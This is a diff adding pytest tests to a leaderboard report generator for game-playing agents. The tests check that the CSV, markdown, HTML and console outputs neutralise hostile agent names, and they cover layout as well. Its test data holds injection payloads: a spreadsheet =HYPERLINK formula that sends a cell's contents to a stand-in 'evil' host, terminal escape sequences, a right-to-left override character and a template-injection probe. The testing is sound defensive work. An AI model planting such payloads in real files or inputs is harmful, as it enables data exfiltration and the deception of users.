@@ -70,6 +70,63 @@ def printed(summary):
     return console.export_text()
 
 
+HOSTILE = {
+    "aa": '=HYPERLINK("http://evil/?x="&A1,"ok")',
+    "bb": "\x1b]0;pwned\x07\x1b[2Jclear \x9b",
+    "cc": "@SUM(1+1)|x\n| `y` | $z$",
+    "dd": "exe\u202etxt\u200b[/red]{{7*7}}",
+}
+KINDS = (
+    {},
+    {"payoff": "general_sum", "self_play": True},
+    {"payoff": "team", "num_players": 3, "payoffs": [(1.0, 1.0, -1.0)]},
+)
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_names_are_no_commands_no_formulas_and_no_rows(tmp_path, kind):
+    with make_store(tmp_path / "s", **kind) as store:
+        for id, name in HOSTILE.items():
+            store.add_agent(id, name, name)
+        store.set("game", "game \x1b[2J | x")
+        summary = summarize(store)
+    paths = write_report(summary, tmp_path)
+    shown = printed(summary)
+    markdown, table, html = (
+        paths[name].read_text(encoding="utf-8") for name in ("leaderboard.md", "leaderboard.csv", "report.html")
+    )
+    assert not any(set(text) & set("\x1b\x07\x9b\u202e\u200b") for text in (shown, markdown, table, html))
+    assert all(
+        name in shown for name in (HOSTILE["aa"], r"\x1b]0;pwned\x07\x1b[2Jclear \x9b", r"@SUM(1+1)|x\n| `y` | $z$")
+    )
+    columns = [len(re.findall(r"(?<!\\)\|", line)) for line in markdown.splitlines() if line.startswith("|")]
+    assert len(set(columns)) <= 2 and min(columns) > 4  # of the leaderboard, and of the match-ups
+    rows = list(csv.DictReader(table.splitlines()))
+    assert all(cell[0] not in "=+@\t\r" for row in rows for cell in row.values() if cell)
+    assert {f"'{HOSTILE['aa']}", r"'@SUM(1+1)|x\n| `y` | $z$"} <= {row["agent"] for row in rows}
+    page = Page(html)
+    assert HOSTILE["aa"] in page.text and r"\x1b]0;pwned\x07\x1b[2Jclear \x9b" in page.text
+    json.dumps(summary.to_json(), allow_nan=False)
+
+
+def test_numbers_below_zero_stay_numbers(tmp_path):
+    with make_store(tmp_path / "s") as store:
+        table = write_report(summarize(store), tmp_path)["leaderboard.csv"].read_text(encoding="utf-8")
+    assert min(float(row["elo"]) for row in csv.DictReader(table.splitlines())) < 0
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_the_page_fits_a_narrow_screen(tmp_path, kind):
+    """Names wrap, and a table scrolls in a box of its own: the page is as wide as its window."""
+    with make_store(tmp_path / "s", **kind) as store:
+        html = write_report(summarize(store), tmp_path)["report.html"].read_text(encoding="utf-8")
+    assert html.count("<table") == html.count('<div class="scroll"><table') > 1
+    assert 'name="viewport" content="width=device-width, initial-scale=1"' in html
+    style = html[html.index("<style>") : html.index("</style>")]
+    assert "overflow-wrap: anywhere" in style and ".scroll { overflow-x: auto; }" in style
+    assert re.search(r"\.name \{[^}]*white-space: normal", style) and "@media (max-width: 40rem)" in style
+
+
 def test_files(tmp_path):
     with make_store(tmp_path / "s") as store:
         summary = summarize(store)
